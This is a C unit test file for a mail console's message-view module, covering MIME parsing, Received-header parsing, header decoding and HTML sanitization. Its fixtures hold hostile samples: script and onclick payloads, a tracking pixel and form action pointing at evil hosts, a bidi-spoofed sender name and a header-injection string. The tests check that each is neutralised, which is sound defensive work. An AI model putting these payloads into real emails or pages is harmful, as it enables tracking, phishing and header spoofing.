/*
 * Unit tests for web/msgview: the JSON of the console's message page from
 * literal messages — the part tree, attachments and bodies, the Received
 * chain, RFC 2047 headers with marks, a hostile HTML body made inert (the
 * properties of tests/unit/sanitize_props.h), the caps and the parser's
 * limits, bytes that are no mail, and that one call serves the original
 * and the rewritten copy alike.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "parse/mime.h"
#include "sanitize_props.h"
#include "web/msgview.h"

typedef struct fixture {
	pc_msgview *v;
	myhtml_t *myhtml;
	myhtml_tree_t *tree;
	json_t *o;
} fixture;

static int setup(void **state)
{
	pc_mime_global_init();
	fixture *fx = calloc(1, sizeof *fx);
	fx->v = pc_msgview_new(NULL);
	fx->myhtml = myhtml_create();
	myhtml_init(fx->myhtml, MyHTML_OPTIONS_PARSE_MODE_SINGLE, 1, 0);
	fx->tree = myhtml_tree_create();
	myhtml_tree_init(fx->tree, fx->myhtml);
	*state = fx;
	return fx->v ? 0 : -1;
}

static int teardown(void **state)
{
	fixture *fx = *state;
	json_decref(fx->o);
	pc_msgview_free(fx->v);
	myhtml_tree_destroy(fx->tree);
	myhtml_destroy(fx->myhtml);
	free(fx);
	return 0;
}

/* The view of bytes; it must serialise (every string valid UTF-8) and its
 * HTML must have every property of an inert fragment. */
static json_t *V_n(void **state, const char *msg, size_t n)
{
	fixture *fx = *state;
	json_decref(fx->o);
	fx->o = pc_msgview_json(fx->v, msg, n);
	assert_non_null(fx->o);
	char *dump = json_dumps(fx->o, 0);
	assert_non_null(dump);
	free(dump);
	json_t *h = json_object_get(fx->o, "html");
	if (json_is_string(h)) {
		const char *why = sanitize_props(fx->tree, json_string_value(h), json_string_length(h));
		if (why)
			fail_msg("%s in %.2000s", why, json_string_value(h));
	}
	return fx->o;
}

static json_t *V(void **state, const char *msg)
{
	return V_n(state, msg, strlen(msg));
}

static const char *str(json_t *o, const char *key)
{
	json_t *v = json_object_get(o, key);
	return json_is_string(v) ? json_string_value(v) : NULL;
}

static json_t *at(json_t *o, const char *key, size_t i)
{
	json_t *a = json_object_get(o, key);
	assert_true(json_is_array(a));
	assert_true(i < json_array_size(a));
	return json_array_get(a, i);
}

static size_t count(json_t *o, const char *key)
{
	json_t *a = json_object_get(o, key);
	assert_true(json_is_array(a));
	return json_array_size(a);
}

static long long num(json_t *o, const char *key)
{
	json_t *v = json_object_get(o, key);
	assert_true(json_is_integer(v));
	return json_integer_value(v);
}

static void has(const char *s, const char *needle)
{
	if (!s || !strstr(s, needle))
		fail_msg("missing %s in %.1000s", needle, s ? s : "(null)");
}

static const char RELATED[] = "From: Finance <finance@example.com>\r\n"
                              "To: board@example.org\r\n"
                              "Subject: Q1 report\r\n"
                              "MIME-Version: 1.0\r\n"
                              "Content-Type: multipart/related; boundary=\"R\"\r\n"
                              "\r\n"
                              "--R\r\n"
                              "Content-Type: multipart/mixed; boundary=\"M\"\r\n"
                              "\r\n"
                              "--M\r\n"
                              "Content-Type: multipart/alternative; boundary=\"A\"\r\n"
                              "\r\n"
                              "--A\r\n"
                              "Content-Type: text/plain; charset=iso-8859-1\r\n"
                              "Content-Transfer-Encoding: quoted-printable\r\n"
                              "\r\n"
                              "Caf=E9 report.\r\n"
                              "Line two.\r\n"
                              "--A\r\n"
                              "Content-Type: text/html; charset=utf-8\r\n"
                              "\r\n"
                              "<p onclick=alert(1)>Report <img src=\"cid:logo@x\" width=120 height=40>"
                              "<a href=\"https://reports.example.com/q1\">online</a><script>alert(2)</script></p>\r\n"
                              "--A--\r\n"
                              "--M\r\n"
                              "Content-Type: application/pdf; name=\"q1.pdf\"\r\n"
                              "Content-Disposition: attachment; filename=\"q1.pdf\"\r\n"
                              "Content-Transfer-Encoding: base64\r\n"
                              "\r\n"
                              "JVBERi0xLjQKJeLjz9MK\r\n"
                              "--M\r\n"
                              "Content-Type: message/rfc822\r\n"
                              "\r\n"
                              "From: inner@example.net\r\n"
                              "Subject: inner\r\n"
                              "\r\n"
                              "inner body\r\n"
                              "--M--\r\n"
                              "--R\r\n"
                              "Content-Type: image/png\r\n"
                              "Content-ID: <logo@x>\r\n"
                              "Content-Transfer-Encoding: base64\r\n"
                              "\r\n"
                              "iVBORw0KGgo=\r\n"
                              "--R--\r\n";

static void test_tree_and_bodies(void **state)
{
	json_t *o = V(state, RELATED);
	assert_string_equal(str(o, "subject"), "Q1 report");
	assert_string_equal(str(at(o, "from", 0), "addr"), "finance@example.com");
	static const char *const paths[] = {"1",     "1.1",   "1.1.1",   "1.1.1.1", "1.1.1.2",
	                                    "1.1.2", "1.1.3", "1.1.3.1", "1.2"};
	static const char *const kinds[] = {"multipart", "multipart", "multipart", "text", "html",
	                                    "other",     "message",   "text",      "other"};
	assert_int_equal(count(o, "mime"), 9);
	for (size_t i = 0; i < 9; i++) {
		assert_string_equal(str(at(o, "mime", i), "path"), paths[i]);
		assert_string_equal(str(at(o, "mime", i), "kind"), kinds[i]);
	}
	json_t *pdf = at(o, "mime", 5);
	assert_string_equal(str(pdf, "content_type"), "application/pdf");
	assert_string_equal(str(pdf, "filename"), "q1.pdf");
	assert_string_equal(str(pdf, "disposition"), "attachment");
	assert_string_equal(str(pdf, "encoding"), "base64");
	assert_int_equal(num(pdf, "size"), 20); /* the base64 line (its CR LF belongs to the boundary) */
	assert_int_equal(num(at(o, "mime", 2), "depth"), 2);
	assert_string_equal(str(at(o, "mime", 3), "charset"), "iso-8859-1");
	/* the bodies: text converted and LF-ended, HTML inert */
	assert_string_equal(str(o, "text"), "Caf\xc3\xa9 report.\nLine two.");
	assert_string_equal(str(o, "text_part"), "1.1.1.1");
	assert_string_equal(str(o, "html_part"), "1.1.1.2");
	const char *html = str(o, "html");
	has(html, "<span class=\"pc-img\" title=\"cid:logo@x\">[image: cid:logo@x 120x40]</span>");
	has(html, "<span class=\"pc-link\" title=\"https://reports.example.com/q1\">online</span>");
	assert_null(strstr(html, "alert"));
	json_t *st = json_object_get(o, "html_stats");
	assert_int_equal(num(st, "links_defused"), 1);
	assert_int_equal(num(st, "images_replaced"), 1);
	assert_int_equal(num(st, "elements_dropped"), 1);
	assert_true(json_is_false(json_object_get(st, "fallback")));
	/* attachments: the PDF, the attached message, the inline image */
	assert_int_equal(count(o, "attachments"), 3);
	assert_string_equal(str(at(o, "attachments", 0), "path"), "1.1.2");
	assert_string_equal(str(at(o, "attachments", 1), "content_type"), "message/rfc822");
	assert_string_equal(str(at(o, "attachments", 2), "content_type"), "image/png");
}

static const char RECEIVED[] = "Received: from mail.evil.example (mail.evil.example [203.0.113.5])\r\n"
                               "\tby mx.example.org (Postfix) with ESMTPS id 4ABC123\r\n"
                               "\tfor <victim@example.org>; Tue, 2 Apr 2024 10:11:12 +0200 (CEST)\r\n"
                               "Received: from [IPv6:2001:db8::1] (helo=x (by; with id)) by relay.example\r\n"
                               "  with SMTP id q; not a date\r\n"
                               "Received: by localhost\r\n"
                               "From: =?utf-8?B?4oCuSm9obg==?= <a@b.example>\r\n"
                               "Subject: =?iso-8859-1?Q?caf=E9?= =?utf-8?Q?_=E2=80=AE_x?=\r\n"
                               "X-Fake: =?utf-8?Q?one=0AAuthentication-Results:_pass?=\r\n"
                               "X-Raw: \xff\xfe\r\n"
                               "\r\n"
                               "hello\r\nworld \xe2\x80\xae\x01\r\nbad \xff\rlone\r\n";

static void test_received_and_headers(void **state)
{
	json_t *o = V(state, RECEIVED);
	assert_int_equal(count(o, "received"), 3);
	assert_int_equal(num(o, "received_total"), 3);
	json_t *h = at(o, "received", 0);
	assert_string_equal(str(h, "from"), "mail.evil.example (mail.evil.example [203.0.113.5])");
	assert_string_equal(str(h, "from_ip"), "203.0.113.5");
	assert_string_equal(str(h, "by"), "mx.example.org (Postfix)");
	assert_string_equal(str(h, "with"), "ESMTPS");
	assert_string_equal(str(h, "id"), "4ABC123");
	assert_string_equal(str(h, "for"), "<victim@example.org>");
	assert_string_equal(str(h, "date"), "Tue, 2 Apr 2024 10:11:12 +0200 (CEST)");
	assert_string_equal(str(h, "time"), "2024-04-02T08:11:12Z");
	assert_true(json_is_null(json_object_get(h, "via")));
	h = at(o, "received", 1);
	assert_string_equal(str(h, "from"), "[IPv6:2001:db8::1] (helo=x (by; with id))");
	assert_string_equal(str(h, "from_ip"), "2001:db8::1");
	assert_string_equal(str(h, "by"), "relay.example");
	assert_string_equal(str(h, "id"), "q");
	assert_string_equal(str(h, "date"), "not a date");
	assert_true(json_is_null(json_object_get(h, "time")));
	h = at(o, "received", 2);
	assert_string_equal(str(h, "by"), "localhost");
	assert_true(json_is_null(json_object_get(h, "from")));
	assert_true(json_is_null(json_object_get(h, "date")));
	/* RFC 2047 decoded; bidi, line feeds and invalid bytes shown */
	assert_string_equal(str(at(o, "headers", 3), "name"), "From");
	assert_string_equal(str(at(o, "headers", 3), "value"), "\xe2\x9f\xa8U+202E\xe2\x9f\xa9John <a@b.example>");
	assert_string_equal(str(at(o, "headers", 4), "value"), "caf\xc3\xa9 \xe2\x9f\xa8U+202E\xe2\x9f\xa9 x");
	assert_string_equal(str(at(o, "headers", 5), "value"), "one\xe2\x9f\xa8U+000A\xe2\x9f\xa9"
	                                                       "Authentication-Results: pass");
	assert_string_equal(str(at(o, "headers", 6), "value"), "\xef\xbf\xbd\xef\xbf\xbd");
	assert_string_equal(str(o, "subject"), "caf\xc3\xa9 \xe2\x9f\xa8U+202E\xe2\x9f\xa9 x");
	assert_string_equal(str(at(o, "from", 0), "name"), "\xe2\x9f\xa8U+202E\xe2\x9f\xa9John");
	/* the text: line feeds kept, a lone CR and controls marked */
	assert_string_equal(str(o, "text"),
	                    "hello\nworld \xe2\x9f\xa8U+202E\xe2\x9f\xa9\xe2\x9f\xa8U+0001\xe2\x9f\xa9\n"
	                    "bad \xef\xbf\xbd\xe2\x9f\xa8U+000D\xe2\x9f\xa9lone\n");
	assert_true(json_is_null(json_object_get(o, "html")));
	assert_true(json_is_null(json_object_get(o, "html_stats")));
}

/* One call for any bytes: the original, then its rewritten copy, then the
 * original again, with nothing carried over. */
static void test_original_and_rewritten(void **state)
{
	fixture *fx = *state;
	json_t *a = json_deep_copy(V(state, RELATED));
	const char rewritten[] = "From: Finance <finance@example.com>\r\n"
	                         "Subject: Q1 report\r\n"
	                         "X-Portcullis-Verdict: neutralise\r\n"
	                         "Content-Type: text/html; charset=utf-8\r\n"
	                         "\r\n"
	                         "<p>Report [image removed]</p>\r\n";
	json_t *r = V(state, rewritten);
	assert_string_equal(str(at(r, "headers", 2), "value"), "neutralise");
	assert_true(json_is_null(json_object_get(r, "text")));
	assert_string_equal(str(r, "html"), "<p>Report [image removed]</p>\n");
	assert_int_equal(count(r, "attachments"), 0);
	json_t *b = V(state, RELATED);
	assert_true(json_equal(a, b));
	json_decref(a);
	(void)fx;
}

static void test_caps_and_limits(void **state)
{
	/* 1,200 header fields: 500 listed, all counted */
	GString *g = g_string_new(NULL);
	for (int i = 0; i < 1200; i++)
		g_string_append_printf(g, "X-H%d: v\r\n", i);
	g_string_append(g, "From: a@b.example\r\n\r\nbody\r\n");
	json_t *o = V_n(state, g->str, g->len);
	assert_int_equal(count(o, "headers"), PC_MSGVIEW_HEADERS);
	assert_int_equal(num(o, "headers_total"), 1201);
	/* a long value is cut and says so */
	g_string_assign(g, "From: a@b.example\r\nSubject: ");
	for (int i = 0; i < 20000; i++)
		g_string_append_c(g, 'x');
	g_string_append(g, "\r\n\r\nb\r\n");
	o = V_n(state, g->str, g->len);
	assert_true(json_is_true(json_object_get(at(o, "headers", 1), "cut")));
	/* 2,000 parts: the parser's limit holds and is reported */
	g_string_assign(g, "From: a@b.example\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n");
	for (int i = 0; i < 2000; i++)
		g_string_append(g, "--B\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n");
	g_string_append(g, "--B--\r\n");
	o = V_n(state, g->str, g->len);
	assert_true(count(o, "mime") <= 1000);
	assert_true(count(o, "attachments") <= PC_MSGVIEW_ATTACHMENTS);
	json_t *p = json_object_get(o, "parse");
	bool limit = false;
	for (size_t i = 0; i < json_array_size(p); i++)
		limit |= !strcmp(str(json_array_get(p, i), "detector"), "parse.limit");
	assert_true(limit);
	/* a text body over PC_MSGVIEW_TEXT_MAX */
	g_string_assign(g, "From: a@b.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n");
	for (int i = 0; i < 700000; i++)
		g_string_append(g, "\xc3\xa9");
	o = V_n(state, g->str, g->len);
	assert_true(json_is_true(json_object_get(o, "text_cut")));
	assert_true(strlen(str(o, "text")) <= PC_MSGVIEW_TEXT_MAX);
	assert_true(g_utf8_validate(str(o, "text"), -1, NULL));
	g_string_free(g, TRUE);
}

static void test_hostile_html_body(void **state)
{
	const char msg[] = "From: a@b.example\r\n"
	                   "Content-Type: text/html\r\n"
	                   "\r\n"
	                   "<meta charset=\"windows-1252\"><base href=//evil/><svg><script>alert(1)</script></svg>"
	                   "<table><tr><td style=\"background:url(//evil/t.gif)\">\x93quoted\x94</td></tr></table>"
	                   "<img src=\"https://evil.example/p.gif?u=victim%40example.org\" width=1 height=1>"
	                   "<form action=//evil/><input type=password></form>\r\n";
	json_t *o = V(state, msg);
	const char *html = str(o, "html");
	has(html, "\xe2\x80\x9cquoted\xe2\x80\x9d"); /* the <meta> charset was read */
	has(html, "[image: evil.example 1x1]");
	has(html, "[input: password]");
	has(html, "[svg removed]");
	json_t *st = json_object_get(o, "html_stats");
	assert_true(num(st, "styles_dropped") >= 1);
}

static void test_not_mail(void **state)
{
	const char junk[] = "\x00\x01\x02 not a message at all \xff\xfe";
	json_t *o = V_n(state, junk, sizeof junk - 1);
	assert_int_equal(num(o, "size"), sizeof junk - 1);
	json_t *p = json_object_get(o, "parse");
	assert_true(json_array_size(p) >= 1);
	o = V_n(state, "", 0);
	assert_int_equal(num(o, "size"), 0);
	fixture *fx = *state;
	json_decref(fx->o);
	fx->o = pc_msgview_json(fx->v, NULL, 0);
	assert_non_null(fx->o);
}

static void test_own_limits(void **state)
{
	pc_config c;
	pc_config_defaults(&c);
	c.limits.parts = 3;
	pc_msgview *v = pc_msgview_new(&c.limits);
	json_t *o = pc_msgview_json(v, RELATED, sizeof RELATED - 1);
	assert_true(json_array_size(json_object_get(o, "mime")) <= 3);
	json_decref(o);
	pc_msgview_free(v);
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_tree_and_bodies),
	    cmocka_unit_test(test_received_and_headers),
	    cmocka_unit_test(test_original_and_rewritten),
	    cmocka_unit_test(test_caps_and_limits),
	    cmocka_unit_test(test_hostile_html_body),
	    cmocka_unit_test(test_not_mail),
	    cmocka_unit_test(test_own_limits),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
